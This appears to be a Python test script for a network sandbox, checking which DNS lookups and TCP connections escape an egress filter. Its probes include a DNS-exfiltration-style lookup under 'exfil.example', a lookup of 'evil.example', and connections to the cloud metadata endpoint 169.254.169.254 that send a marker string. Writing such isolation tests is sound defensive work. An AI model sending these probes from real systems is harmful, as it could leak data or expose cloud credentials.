# Has a network that one name may be reached through, and wants everything else.
import errno, firebreak, socket, sys

unresolved = {v: k for k, v in vars(socket).items() if k.startswith("EAI_")}
allowed, marker, sink_port, *sinks = sys.argv[1:]


def attempt(f):
    try:
        f()
        return "connected"
    except OSError as e:
        return unresolved.get(e.errno) or errno.errorcode.get(e.errno) or str(e)


def tcp(host, port):
    with socket.create_connection((host, int(port)), 5) as s:
        s.sendall(marker.encode())
        s.settimeout(5)
        if not s.recv(1):  # closed without a word: nobody was there
            raise ConnectionResetError(errno.ECONNRESET, "closed")


def lookup(name):
    return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})


names = {n: attempt(lambda: lookup(n)) for n in (
    marker + ".exfil.example", "evil.example", "sub." + allowed, "metadata.google.internal", "localhost.localdomain")}
places = {f"{h}:{p}": attempt(lambda: tcp(h, p)) for h, p in (
    [("1.1.1.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 22), ("8.8.8.8", 53)] + [(s, sink_port) for s in sinks if ":" not in s])}
try:
    known = lookup(allowed)
except OSError:
    known = []
firebreak.result({
    "devices": sorted(name for _, name in socket.if_nameindex()), "known": known, "names": names, "places": places,
})
